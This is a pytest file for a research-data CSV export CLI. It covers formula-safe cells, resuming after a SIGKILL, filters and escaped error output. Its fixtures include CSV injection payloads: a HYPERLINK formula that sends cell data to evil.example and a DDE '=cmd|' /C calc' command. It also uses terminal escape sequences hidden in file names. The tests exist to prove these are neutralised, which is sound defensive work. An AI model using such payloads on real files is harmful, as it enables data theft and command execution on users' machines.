"""export-research at scale: formula-safe cells, resume after a kill, filters, --since, progress,
problems printed safely. The real CLI, boto3 and moto's server; the kill is a real SIGKILL of a
real export process."""
from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import uuid
from datetime import datetime, timezone

import pytest

from archpal_desktop.core import layout
from archpal_desktop.core.admin import research
from archpal_desktop.core.admin.csvsafe import FORMULA_STARTS
from archpal_desktop.localstack.proxy import FaultProxy
from tests.admin.scale_support import COURSES, read_csv, seed_users, sub_for
from tests.support.s3fixtures import ADA

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
            "\tindented", "\rcarriage", "\uff1dSUM(A1)", "=cmd|' /C calc'!A0"]


def _put_json(s3, bucket, key, doc):
    s3.put_object(Bucket=bucket, Key=key, Body=json.dumps(doc, indent=2).encode())


def test_formula_cells_come_out_inert(cli, s3, bucket, tmp_path):
    sub = sub_for(900)
    _put_json(s3, bucket, layout.info_key(sub), {
        "first_name": "Eve", "last_name": "Hacker", "college_year": "First Year",
        "major": "=1+2", "course_number": "ENGL 1102", "unique_identifier": "@evil"})
    cid = str(uuid.uuid4())
    messages = []
    for n, text in enumerate(FORMULAS):
        messages.append({"message_id": str(uuid.uuid4()), "role": "user" if n % 2 == 0 else "assistant",
                         "content": text, "timestamp": f"2026-09-03T10:00:{n:02d}Z", "metadata": {}})
    _put_json(s3, bucket, layout.conversation_key(sub, cid), {
        "conversation_id": cid, "user_id": sub, "created_at": "2026-09-03T10:00:00Z",
        "messages": messages, "metadata": {}, "last_updated": "2026-09-03T10:00:09Z"})
    run = cli("admin", "export-research", "--out", tmp_path, "--bucket", bucket, "--quiet")
    assert run.code == 0, run.err
    rows = read_csv(tmp_path / "research_conversations.csv")[1:]
    cells = [c for row in rows for c in row if c]
    assert cells, "nothing exported"
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    texts = [c for row in rows for c in (row[3], row[5])]
    assert texts == ["'" + f for f in FORMULAS]  # shown as text, nothing lost
    assert rows[0][0] == "'@evil" and rows[0][2] == "'=1+2"
    ids = read_csv(tmp_path / "research_identifiers.csv")
    assert ids[1] == ["Eve", "Hacker", "'@evil"]


def _export_env(endpoint: str) -> dict:
    env = dict(os.environ)
    env["AWS_ENDPOINT_URL_S3"] = endpoint
    return env


def _reference(cli, bucket, out) -> list[list[str]]:
    run = cli("admin", "export-research", "--out", out, "--bucket", bucket, "--quiet")
    assert run.code == 0, run.err
    return read_csv(out / "research_conversations.csv")


@pytest.mark.slow
def test_killed_export_resumes_without_duplicating_or_dropping_a_row(cli, s3, bucket, local_aws,
                                                                     tmp_path):
    seed_users(s3, bucket, 40, 3, 4)
    want = _reference(cli, bucket, tmp_path / "reference")
    assert len(want) == 1 + 40 * 3 * 2
    # the export to kill runs in its own process, slowed by 30 ms a request so it is mid-way
    proxy = FaultProxy(os.environ["AWS_ENDPOINT_URL_S3"], delay=0.03).start()
    out = tmp_path / "study"
    state = out / research.STATE_FILE
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "archpal_desktop", "admin", "export-research", "--out", str(out),
             "--bucket", bucket, "--workers", "2", "--quiet"],
            env=_export_env(proxy.url), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        users = 0
        while time.monotonic() < deadline and proc.poll() is None:
            try:
                users = json.loads(state.read_text())["users"]
            except (OSError, ValueError, KeyError):
                users = 0
            if users >= 5:
                break
            time.sleep(0.05)
        assert proc.poll() is None, proc.communicate()
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    finally:
        proxy.stop()
    assert 5 <= users < 40
    assert not (out / "research_conversations.csv").exists()  # only the .partial files
    run = cli("admin", "export-research", "--out", out, "--bucket", bucket, "--quiet")
    assert run.code == 0, run.err
    assert "an unfinished export was resumed" in run.out
    assert f"Exported {40 * 3 * 2} rows from 120 conversations of 40 users" in run.out
    got = read_csv(out / "research_conversations.csv")
    assert got == want
    assert read_csv(out / "research_identifiers.csv") == read_csv(
        tmp_path / "reference" / "research_identifiers.csv")
    assert not state.exists() and not list(out.glob("*.partial"))


def test_rows_written_after_the_last_checkpoint_are_cut_on_resume(s3, bucket, tmp_path):
    """A kill between appending a user's rows and the checkpoint that counts them: the resumed
    run cuts what the state does not count and writes that user again (no duplicate)."""
    seed_users(s3, bucket, 6, 2, 2)
    seen = []

    def stop_after_three(progress):
        seen.append(progress.users_done)
        if progress.users_done == 3:
            raise KeyboardInterrupt

    out = tmp_path / "study"
    with pytest.raises(KeyboardInterrupt):
        research.export_research(s3, bucket, out, workers=2, on_progress=stop_after_three)
    partial = out / (research.CONVERSATIONS_FILE + research.PARTIAL_SUFFIX)
    with open(partial, "ab") as fh:  # as if a 4th user's rows had landed before the kill
        fh.write(b"torn,row,from,a,killed,run\r\n")
    result, data, _ids = research.export_research(s3, bucket, out, workers=2)
    assert result.resumed
    rows = read_csv(data)
    assert len(rows) == 1 + 6 * 2 and not any(r[0] == "torn" for r in rows)
    reference, ref_data, _ = research.export_research(s3, bucket, tmp_path / "ref", workers=2)
    assert rows == read_csv(ref_data)


def test_unfinished_export_with_other_options_is_not_mixed(cli, s3, bucket, tmp_path):
    seed_users(s3, bucket, 3, 1, 2)
    out = tmp_path / "study"
    with pytest.raises(KeyboardInterrupt):
        research.export_research(s3, bucket, out, on_progress=lambda p: (_ for _ in ()).throw(
            KeyboardInterrupt()))
    run = cli("admin", "export-research", "--out", out, "--bucket", bucket, "--course", "ENGL1102")
    assert run.code == 1
    assert "holds an unfinished export made with other options" in run.err
    assert "--restart" in run.err
    run = cli("admin", "export-research", "--out", out, "--bucket", bucket, "--course", "ENGL1102",
              "--restart", "--quiet")
    assert run.code == 0, run.err


def test_filters_course_year_and_dates(cli, s3, bucket, tmp_path):
    seed_users(s3, bucket, 6, 4, 2)  # conversation j of user i: course (i+j)%2, day 5+j of Jan
    all_rows = _reference(cli, bucket, tmp_path / "all")[1:]
    assert len(all_rows) == 6 * 4

    run = cli("admin", "export-research", "--out", tmp_path / "c", "--bucket", bucket,
              "--course", "engl1102", "--quiet")
    assert run.code == 0, run.err
    rows = read_csv(tmp_path / "c" / "research_conversations.csv")[1:]
    assert len(rows) == 12  # half of every user's conversations are ENGL 1102

    run = cli("admin", "export-research", "--out", tmp_path / "y", "--bucket", bucket,
              "--college-year", "Faculty", "--quiet")
    assert run.code == 0, run.err
    rows = read_csv(tmp_path / "y" / "research_conversations.csv")[1:]
    assert {r[1] for r in rows} == {"Faculty"} and len(rows) == 2 * 4  # users 2 and 5
    ids = read_csv(tmp_path / "y" / "research_identifiers.csv")[1:]
    assert [r[0] for r in ids] == ["Stu2", "Stu5"]  # only the students who are in the data

    run = cli("admin", "export-research", "--out", tmp_path / "d", "--bucket", bucket,
              "--from", "2026-01-06", "--to", "2026-01-07", "--quiet")
    assert run.code == 0, run.err
    rows = read_csv(tmp_path / "d" / "research_conversations.csv")[1:]
    assert len(rows) == 6 * 2
    assert all(r[4][:10] in ("2026-01-06", "2026-01-07") for r in rows)

    bad = cli("admin", "export-research", "--out", tmp_path / "x", "--bucket", bucket,
              "--college-year", "Sophomore")
    assert bad.code == 1 and "is not a college year" in bad.err and "First Year" in bad.err
    bad = cli("admin", "export-research", "--out", tmp_path / "x", "--bucket", bucket,
              "--from", "yesterday")
    assert bad.code == 1 and "is not a date" in bad.err
    assert COURSES[0] == "ENGL 1102"


def test_since_exports_only_changed_conversations(cli, s3, bucket, tmp_path):
    seed_users(s3, bucket, 3, 2, 2)
    time.sleep(1.1)  # S3's LastModified has one-second resolution
    cutoff = datetime.now(timezone.utc).replace(microsecond=0)
    time.sleep(1.1)
    sub = sub_for(1)
    cid = str(uuid.uuid4())
    _put_json(s3, bucket, layout.conversation_key(sub, cid), {
        "conversation_id": cid, "user_id": sub, "created_at": "2026-02-01T10:00:00Z",
        "messages": [{"message_id": str(uuid.uuid4()), "role": "user", "content": "New one",
                      "timestamp": "2026-02-01T10:00:01Z", "metadata": {}}],
        "metadata": {}, "last_updated": "2026-02-01T10:00:01Z"})
    run = cli("admin", "export-research", "--out", tmp_path, "--bucket", bucket,
              "--since", cutoff.isoformat(), "--quiet")
    assert run.code == 0, run.err
    rows = read_csv(tmp_path / "research_conversations.csv")[1:]
    assert [r[3] for r in rows] == ["New one"]
    assert "of 1 users" in run.out


def test_progress_json_and_problems_escaped(cli, s3, fixture_bucket, tmp_path):
    bucket, _ = fixture_bucket
    evil = f"users/{ADA}/conversations/\x1b]0;pwned\x07\x1b[2J.json"
    s3.put_object(Bucket=bucket, Key=evil, Body=b"{}")
    run = cli("admin", "export-research", "--out", tmp_path, "--bucket", bucket)
    assert run.code == 0, run.err
    assert "\x1b" not in run.err and "\x07" not in run.err
    assert "\\x1b]0;pwned\\x07\\x1b[2J.json: not a conversation id; skipped." in run.err
    run = cli("admin", "export-research", "--out", tmp_path / "j", "--bucket", bucket, "--json")
    assert run.code == 0, run.err
    summary = json.loads(run.out)
    assert summary["rows"] == 6 and summary["problem_count"] == 1
    lines = [json.loads(line) for line in run.err.splitlines() if line.startswith("{")]
    assert lines and lines[-1]["progress"]["finished"] is True
    assert lines[-1]["progress"]["users_done"] == 2


def test_cli_error_text_is_escaped(cli, tmp_path):
    evil = tmp_path / "secrets\x1b]0;pwned\x07.toml"
    run = cli("admin", "import-secrets", evil)
    assert run.code == 1
    assert "\x1b" not in run.err and "secrets\\x1b]0;pwned\\x07.toml does not exist" in run.err


def test_missing_bucket_is_one_clear_message(cli, local_aws, tmp_path):
    run = cli("admin", "export-research", "--out", tmp_path, "--bucket", "no-such-bucket-here",
              "--quiet")
    assert run.code == 1
    assert "The bucket does not exist" in run.err and "Traceback" not in run.err
    assert not (tmp_path / "research_conversations.csv").exists()
